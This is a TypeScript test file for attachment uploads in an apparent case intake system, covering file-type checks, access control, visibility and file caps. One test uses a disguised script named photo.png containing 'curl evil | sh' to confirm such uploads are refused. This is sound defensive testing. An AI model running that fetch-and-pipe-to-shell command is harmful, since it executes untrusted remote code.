import { beforeEach, describe, expect, it } from "vitest";
import { ConflictError, NotFoundError } from "@/lib/errors";
import { addRequestFiles } from "@/lib/files/add";
import { openAttachment } from "@/lib/files/download";
import { jpegWithMetadata, minimalPdf, plainJpeg, plainPng } from "@/lib/files/test-images";
import { incomingFiles, prepareUploads, UploadRefusedError } from "@/lib/files/uploads";
import { submitRequest } from "@/lib/intake/submit";
import { performCaseAction } from "@/lib/cases/perform";
import { addReply } from "@/lib/cases/replies";
import { makeEnterprise, makeTownshipUnit, makeUser, principalOf } from "../fixtures/factory";
import { formKey, generalDetails, makeIntakeWorld, tempStorage } from "../fixtures/intake";
import { resetDb, testDb } from "./db";

const db = testDb();
const NOW = new Date("2026-11-27T10:00:00+08:00");

beforeEach(() => resetDb());

/** Files as the browser sends them in a multipart form. */
function formFiles(...files: [string, Uint8Array, string][]) {
  const data = new FormData();
  for (const [name, bytes, type] of files) data.append("files", new File([Buffer.from(bytes)], name, { type }));
  return incomingFiles(data.getAll("files"));
}

async function world() {
  const w = await makeIntakeWorld(db);
  const store = tempStorage();
  const { reference } = await submitRequest(w.as.staff, { type: "GENERAL", details: generalDetails(), idempotencyKey: formKey() }, NOW, store.storage);
  const other = await makeTownshipUnit(db);
  const otherEnterprise = await makeEnterprise(db, other.township.id);
  const as = {
    ...w.as,
    otherStaff: await principalOf(db, (await makeUser(db, "ENTERPRISE", { enterpriseId: otherEnterprise.id })).id),
    otherOfficer: await principalOf(db, (await makeUser(db, "OFFICER", { unitId: other.unit.id })).id),
  };
  return { ...w, ...store, reference, as };
}

describe("attachments", () => {
  it("refuse a PNG renamed .pdf and a script renamed .png before anything is stored", async () => {
    const w = await world();
    const disguised = await formFiles(["合同.pdf", plainPng(), "application/pdf"]);
    expect(() => prepareUploads(disguised)).toThrow(UploadRefusedError);
    const script = await formFiles(["photo.png", new TextEncoder().encode("#!/bin/sh\ncurl evil | sh\n"), "image/png"]);
    expect(() => prepareUploads(script)).toThrow(expect.objectContaining({ fieldErrors: { files: ["fileType"] }, fileName: "photo.png" }));
    expect(await db.attachment.count()).toBe(0);
    expect(w.files()).toHaveLength(0);
  });

  it("are served only to those who may see the request, with image metadata gone", async () => {
    const w = await world();
    const [id] = await addRequestFiles(w.as.staff, w.reference, prepareUploads(await formFiles(["现场.jpg", jpegWithMetadata(), "image/jpeg"])), {
      now: NOW,
      storage: w.storage,
    });
    const own = await openAttachment(w.as.staff, id!, w.storage);
    expect(own).toEqual({ name: "现场.jpg", mime: "image/jpeg", bytes: plainJpeg() });
    expect((await openAttachment(w.as.officer, id!, w.storage)).name).toBe("现场.jpg");
    for (const outsider of [w.as.otherStaff, w.as.otherOfficer]) {
      await expect(openAttachment(outsider, id!, w.storage)).rejects.toBeInstanceOf(NotFoundError);
    }
    await expect(openAttachment(w.as.staff, "no-such-id", w.storage)).rejects.toBeInstanceOf(NotFoundError);
  });

  it("of internal notes are for unit staff only", async () => {
    const w = await world();
    const [id] = await addRequestFiles(w.as.officer, w.reference, prepareUploads([{ name: "内部核查.pdf", bytes: minimalPdf() }]), {
      visibility: "INTERNAL",
      now: NOW,
      storage: w.storage,
    });
    expect((await openAttachment(w.as.officer, id!, w.storage)).name).toBe("内部核查.pdf");
    await expect(openAttachment(w.as.staff, id!, w.storage)).rejects.toBeInstanceOf(NotFoundError);
    await expect(
      addRequestFiles(w.as.staff, w.reference, prepareUploads([{ name: "a.pdf", bytes: minimalPdf() }]), { visibility: "INTERNAL", storage: w.storage }),
    ).rejects.toMatchObject({ name: "ForbiddenError" });
  });

  it("sent with an officer's internal note stay inside the units; with a public reply the enterprise gets them", async () => {
    const w = await world();
    const pdf = (name: string) => prepareUploads([{ name, bytes: minimalPdf() }]);
    const note = await addReply(w.as.officer, w.reference, { body: "内部核查记录", visibility: "INTERNAL" });
    const [internalId] = await addRequestFiles(w.as.officer, w.reference, pdf("核查.pdf"), { replyId: note.replyId, storage: w.storage });
    const reply = await addReply(w.as.officer, w.reference, { body: "消杀证明见附件", visibility: "PUBLIC" });
    const [publicId] = await addRequestFiles(w.as.officer, w.reference, pdf("消杀证明.pdf"), { replyId: reply.replyId, storage: w.storage });
    await expect(openAttachment(w.as.staff, internalId!, w.storage)).rejects.toBeInstanceOf(NotFoundError);
    expect((await openAttachment(w.as.staff, publicId!, w.storage)).name).toBe("消杀证明.pdf");
    // Someone else's reply cannot carry your files.
    await expect(addRequestFiles(w.as.staff, w.reference, pdf("x.pdf"), { replyId: reply.replyId, storage: w.storage })).rejects.toBeInstanceOf(NotFoundError);
  });

  it("are capped at 5 per request, and refused from the enterprise once the request is closed", async () => {
    const w = await world();
    const three = () => prepareUploads(Array.from({ length: 3 }, (_, i) => ({ name: `${i}.pdf`, bytes: minimalPdf() })));
    await addRequestFiles(w.as.staff, w.reference, three(), { storage: w.storage });
    await expect(addRequestFiles(w.as.staff, w.reference, three(), { storage: w.storage })).rejects.toMatchObject({ fieldErrors: { files: ["tooManyFiles"] } });
    expect(await db.attachment.count()).toBe(3);
    expect(w.files()).toHaveLength(3);

    await db.request.update({ where: { reference: w.reference }, data: { status: "WITHDRAWN" } });
    await expect(
      addRequestFiles(w.as.staff, w.reference, prepareUploads([{ name: "x.pdf", bytes: minimalPdf() }]), { storage: w.storage }),
    ).rejects.toBeInstanceOf(ConflictError);
    await expect(
      addRequestFiles(w.as.otherStaff, w.reference, prepareUploads([{ name: "x.pdf", bytes: minimalPdf() }]), { storage: w.storage }),
    ).rejects.toBeInstanceOf(NotFoundError);
  });

  it("sent with an answer belong to the answer, so a request already holding five still takes them", async () => {
    const w = await world();
    const pdfs = (n: number) => prepareUploads(Array.from({ length: n }, (_, i) => ({ name: `${i}.pdf`, bytes: minimalPdf() })));
    await addRequestFiles(w.as.staff, w.reference, pdfs(5), { storage: w.storage });
    const version = async () => (await db.request.findUniqueOrThrow({ where: { reference: w.reference } })).version;
    await performCaseAction(w.as.officer, w.reference, await version(), { action: "accept" }, NOW);
    await performCaseAction(w.as.officer, w.reference, await version(), { action: "ask", question: "请补充两张现场照片。" }, NOW);

    const { replyId } = await performCaseAction(w.as.staff, w.reference, await version(), { action: "answer", answer: "已补充，见附件。" }, NOW);
    expect(replyId).toBeDefined();
    await addRequestFiles(w.as.staff, w.reference, pdfs(2), { replyId, storage: w.storage });
    expect(await db.attachment.count({ where: { replyId } })).toBe(2);
    expect((await db.reply.findUniqueOrThrow({ where: { id: replyId! } })).body).toBe("已补充，见附件。");
  });
});
